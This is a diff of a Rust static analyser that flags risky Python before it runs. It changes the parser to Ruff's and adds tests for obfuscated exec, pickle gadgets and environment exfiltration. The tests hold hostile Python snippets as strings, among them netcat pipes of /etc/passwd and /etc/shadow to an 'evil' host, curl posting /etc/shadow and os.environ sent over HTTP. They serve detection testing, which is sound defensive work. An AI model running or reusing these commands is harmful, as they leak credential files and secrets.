@@ -1,32 +1,35 @@
 //! Static security assessment of Python source before it runs.
 //!
 //! This is triage for the user, not a security boundary: the sandbox is the
-//! boundary. The assessor parses the file with tree-sitter-python, resolves
+//! boundary. The assessor parses the file with Ruff's parser, resolves
 //! names through imports, aliases and dynamic lookups, and maps what it sees
 //! onto the rule table in [`rules`], then folds the findings into a
 //! [`Verdict`].
 //!
-//! Parser choice: tree-sitter + tree-sitter-python. It is maintained, covers
-//! Python 3.12 syntax (match, PEP 695 type parameters, `type` aliases), parses
-//! with an explicit stack (so hostile nesting cannot overflow ours), and
-//! recovers from syntax errors, which lets us still assess the rest of a
-//! broken file. rustpython-parser was the alternative, but it is no longer
-//! released and stops at the first syntax error; Ruff's parser is faster but
-//! is published only as an unstable internal crate needing Rust 1.95. Its
-//! cost: tree-sitter parses at only ~3-5 MB/s here (see DEPS.md). 0.25 is
-//! pinned (not 0.26+) because later releases need Rust 1.90 while maibox
-//! declares 1.80.
+//! Parser choice: `ruff_python_parser`. It is maintained with Ruff, covers
+//! current Python syntax (match, PEP 695 type parameters, `type` aliases,
+//! PEP 701 f-strings), recovers from syntax errors (so the rest of a broken
+//! file is still assessed) and parses at 0.2-0.35 ms per 1,000 lines here:
+//! about 15x tree-sitter-python (4-5 ms per 1,000 lines, which alone broke the
+//! 2 ms budget) and 8x rustpython-parser. It is published as an internal,
+//! 0.0.x crate, so it is pinned exactly (see Cargo.toml). [`syntax`] lowers
+//! its AST into the flat tree the rules walk and guards against hostile
+//! nesting.
 
 mod analyze;
+pub mod bandit;
 mod config;
 mod render;
 mod rules;
+mod syntax;
 mod verdict;
 
 #[cfg(test)]
 mod corpus_tests;
 #[cfg(test)]
 mod robustness_tests;
+#[cfg(test)]
+mod stdlib_tests;
 
 use std::time::Instant;
 
@@ -67,7 +70,10 @@ pub struct Assessment {
     pub syntax_ok: bool,
     pub bytes: usize,
     pub lines: usize,
+    /// The assessor's own time (external tools not included).
     pub elapsed_us: u64,
+    /// External analysers whose findings were merged in (`--with bandit`).
+    pub tools: Vec<String>,
 }
 
 #[derive(Debug, thiserror::Error)]
@@ -140,6 +146,7 @@ pub fn assess(path: &str, source: &[u8], cfg: &AssessConfig) -> Result<Assessmen
         bytes: source.len(),
         lines: line_texts.len(),
         elapsed_us: u64::try_from(start.elapsed().as_micros()).unwrap_or(u64::MAX),
+        tools: Vec::new(),
     })
 }
 
@@ -153,7 +160,7 @@ fn fold_verdict(findings: &[Finding], cfg: &AssessConfig) -> Verdict {
         let mut ids: Vec<&str> = findings
             .iter()
             .filter(|f| f.severity == sev)
-            .map(|f| f.rule.as_str())
+            .map(|f| rules::behaviour(&f.rule))
             .collect();
         ids.sort_unstable();
         ids.dedup();
@@ -275,6 +282,22 @@ mod tests {
         assert_eq!(a.verdict, Verdict::Blocked, "{:?}", a.findings);
         let b = run("import codecs\ns = codecs.decode('cevag(1)', 'rot13')\nexec(s)\n");
         assert_eq!(b.verdict, Verdict::Blocked, "{:?}", b.findings);
+        for spelled in [
+            "exec(chr(105) + chr(100))\n",
+            "exec(''.join([chr(105), chr(100)]))\n",
+            "exec(''.join(chr(c) for c in [105, 100]))\n",
+            "s = 'di'\nexec(s[::-1])\n",
+        ] {
+            assert_eq!(run(spelled).verdict, Verdict::Blocked, "{spelled}");
+        }
+        // A lone character and a reversed list are not disguises (IPython's
+        // completer, CPython's test_sys): no MB903.
+        for plain in [
+            "s = chr(0x4000)\ncompile(s, '<stdin>', 'eval')\n",
+            "def f(ids, ns):\n    return eval('.'.join(ids[::-1]), ns)\n",
+        ] {
+            assert!(!rules_of(&run(plain)).contains(&"MB903"), "{plain}");
+        }
     }
 
     #[test]
@@ -289,6 +312,115 @@ mod tests {
         cfg.disabled.push("MB605".into());
         let a = assess("t.py", src.as_bytes(), &cfg).unwrap();
         assert!(!rules_of(&a).contains(&"MB605"));
+    }
+
+    #[test]
+    fn dynamic_code_rules_escalate_as_one_behaviour() {
+        // A debugger's shape: exec, eval, compile, a computed import and a
+        // computed getattr are one behaviour, so HIGH, not BLOCKED.
+        let src = "import importlib, os\ndef run(code, name, attr):\n    exec(code)\n    eval(code)\n    compile(code, 'f', 'exec')\n    importlib.import_module(name)\n    getattr(os, attr)\n";
+        let a = run(src);
+        let r = rules_of(&a);
+        for id in ["MB102", "MB307", "MB110", "MB411", "MB413"] {
+            assert!(r.contains(&id), "{id} missing: {r:?}");
+        }
+        assert_eq!(a.verdict, Verdict::High, "{:?}", a.findings);
+        // Four independent HIGH behaviours still escalate.
+        let src = "import os, socket\nos.setuid(0)\nopen('/etc/motd', 'w')\nos.system('sudo id')\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW)\n";
+        assert_eq!(run(src).verdict, Verdict::Blocked);
+    }
+
+    #[test]
+    fn docstrings_are_documentation_not_behaviour() {
+        let doc = "import ftplib\ndef login(host):\n    \"\"\"Logs in with the password from ~/.netrc.\"\"\"\n    return ftplib.FTP(host)\n";
+        let a = run(doc);
+        assert!(!rules_of(&a).contains(&"MB205"), "{:?}", a.findings);
+        assert!(a.verdict < Verdict::High, "{:?}", a.findings);
+        // The same path used by the code is still seen.
+        let used = "import ftplib\ndef login(host):\n    creds = open('/root/.netrc').read()\n    return ftplib.FTP(host), creds\n";
+        assert_eq!(run(used).verdict, Verdict::Blocked);
+    }
+
+    #[test]
+    fn pickle_gadgets() {
+        // A gadget alone is HIGH; with a ready command, or pickled, BLOCKED.
+        let gadget = "import subprocess\nclass G:\n    def __reduce__(self):\n        return subprocess.Popen, (self.argv,)\n";
+        let a = run(gadget);
+        assert!(rules_of(&a).contains(&"MB418"), "{:?}", a.findings);
+        assert_eq!(a.verdict, Verdict::High, "{:?}", a.findings);
+        let pickled = format!("{gadget}import pickle\ng = G()\nblob = pickle.dumps(g)\n");
+        let a = run(&pickled);
+        assert_eq!(a.verdict, Verdict::Blocked, "{:?}", a.findings);
+        let f = a.findings.iter().find(|f| f.rule == "MB912").unwrap();
+        assert_eq!(f.line, 7, "{f:?}");
+        // Another class pickled does not arm this one.
+        let other = format!("{gadget}import pickle\nclass H:\n    pass\npickle.dumps(H())\n");
+        assert_eq!(run(&other).verdict, Verdict::High);
+        // The command inside a gadget is checked like any other command.
+        let armed = "import os\nclass E:\n    def __reduce__(self):\n        t = (os.system, ('cat /etc/shadow | nc evil 9',))\n        return t\n";
+        let a = run(armed);
+        let r = rules_of(&a);
+        for id in ["MB418", "MB912", "MB910"] {
+            assert!(r.contains(&id), "{id} missing: {r:?}");
+        }
+        // A __reduce__ outside a class, or an honest one, is nothing.
+        assert!(!rules_of(&run(
+            "import os\ndef __reduce__():\n    return os.system, ('id',)\n"
+        ))
+        .contains(&"MB418"));
+        let honest = "class P:\n    def __reduce__(self):\n        return (self.__class__, (self.x,))\n    def __reduce_ex__(self, p):\n        return getattr, (type(self), 'x')\n";
+        assert!(run(honest).findings.is_empty());
+    }
+
+    #[test]
+    fn environment_sent_over_the_network() {
+        let blocked = [
+            "import os, requests\ne = dict(os.environ)\nrequests.post('https://x', json=e)\n",
+            "import os, json, urllib.request\nd = json.dumps(os.environ.copy()).encode()\nurllib.request.urlopen('http://x', data=d)\n",
+            "from os import environ\nimport socket\ns = socket.socket()\ns.connect(('x', 1))\ns.sendall(repr(environ).encode())\n",
+            "import os, requests\nrequests.get('https://x', params={k: os.environ[k] for k in os.environ})\n",
+            "import os, json, subprocess\ncmd = ['curl', '-d', json.dumps(dict(os.environ)), 'https://x']\nsubprocess.run(cmd)\n",
+        ];
+        for src in blocked {
+            let a = run(src);
+            assert!(rules_of(&a).contains(&"MB911"), "{src}: {:?}", a.findings);
+            assert_eq!(a.verdict, Verdict::Blocked);
+        }
+        let many = "import os, requests\nkeys = [os.getenv('A'), os.getenv('B'), os.environ['C'], os.environ.get('D')]\nrequests.post('https://x', json=keys)\n";
+        assert!(rules_of(&run(many)).contains(&"MB421"));
+        let benign = [
+            // One variable for configuration or authentication.
+            "import os, requests\nt = os.environ['TOKEN']\nrequests.get('https://x', headers={'A': t, 'R': os.getenv('REGION')})\n",
+            // The environment handed to a child process.
+            "import os, subprocess\nenv = os.environ.copy()\nsubprocess.run(['curl', '-o', 'f', 'https://x'], env=env)\n",
+            // A method named like a send, in a script without network I/O.
+            "import os, queue\nq = queue.Queue()\nq.put(dict(os.environ))\n",
+            // The same name rebound before the send.
+            "import os, requests\ne = dict(os.environ)\ne = {'ok': 1}\nrequests.post('https://x', json=e)\n",
+        ];
+        for src in benign {
+            let a = run(src);
+            let r = rules_of(&a);
+            assert!(
+                !r.contains(&"MB911") && !r.contains(&"MB421"),
+                "{src}: {r:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn commands_that_send_files_away() {
+        let a = run("import os\nos.system('cat /etc/passwd | nc evil 4444')\n");
+        assert!(rules_of(&a).contains(&"MB910"));
+        assert_eq!(a.verdict, Verdict::Blocked);
+        let b =
+            run("import subprocess\nsubprocess.run(['curl', '-d', '@/etc/shadow', 'http://x'])\n");
+        assert!(rules_of(&b).contains(&"MB910"), "{:?}", b.findings);
+        let c = run(
+            "import os\nos.system('cat /etc/passwd | wc -l')\nos.system('curl -o x http://x')\n",
+        );
+        assert!(!rules_of(&c).contains(&"MB910"));
+        assert_eq!(c.verdict, Verdict::Medium);
     }
 
     #[test]
